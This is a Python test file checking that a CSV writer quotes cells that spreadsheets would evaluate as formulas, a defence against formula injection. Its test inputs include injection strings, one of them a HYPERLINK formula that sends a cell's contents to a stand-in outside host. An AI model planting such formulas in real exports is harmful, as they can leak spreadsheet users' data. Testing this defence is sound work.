"""Text in CSV files that a spreadsheet would calculate."""

import csv
import io

from orthobench.tools.files import write_csv


def written(rows):
    file = io.BytesIO()
    write_csv(rows, file)
    assert not file.closed
    return list(csv.reader(io.StringIO(file.getvalue().decode(), newline="")))


def test_a_text_that_is_a_formula_is_quoted():
    for text in (
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        '=HYPERLINK("//a.b/"&A1)',
        "- msg",
        " =1+1",
        "\u00a0\u200b@SUM(A1)",
        "\uff1d1+1",
        "\n=1+1",
    ):
        assert written([["name", "gap"], [text, 1.5]]) == [["name", "gap"], [f"'{text}", "1.5"]], (
            text
        )
        assert written([[text]]) == [[f"'{text}"]], text  # a name of a column is no better


def test_numbers_and_other_text_stay_as_they_are():
    row = [-1.5, 2, float("-inf"), "-1e-3", "+2", "oja step=-1", "", "'quoted", "it's", None]
    assert written([row]) == [["" if value is None else str(value) for value in row]]
